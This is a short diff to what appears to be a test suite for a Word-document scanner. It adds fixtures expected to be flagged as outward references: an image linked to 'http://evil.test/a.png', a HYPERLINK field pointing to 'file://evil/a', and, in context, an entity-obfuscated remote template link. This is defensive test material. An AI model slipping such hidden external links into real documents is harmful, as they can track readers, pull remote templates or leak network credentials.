@@ -171,6 +171,22 @@ OUTWARD: dict[str, tuple[bytes, str]] = {
         ),
         OUTSIDE,
     ),
+    "a picture by way of a link": (
+        with_part(
+            relations(
+                f'<Relationship Id="r9" Type="{OFFICE}/hyperlink" Target="http://evil.test/a.png"'
+                ' TargetMode="External"/>'
+            ),
+            "word/document.xml",
+            old="<w:body>",
+            new=f'<w:body><w:p><a:blip xmlns:a="a" xmlns:r="{OFFICE}" r:link="r9"/></w:p>',
+        ),
+        OUTSIDE,
+    ),
+    "a link field to a place and a file": (
+        body(code('<w:instrText>HYPERLINK \\l "a" "file://evil/a"</w:instrText>')),
+        OUTSIDE,
+    ),
     "a relationship of the settings": (
         relations(
             f'<Relationship Id="r9" Type="{OFFICE}/attachedTemplate" Target="&#104;ttp://evil.test/a"'
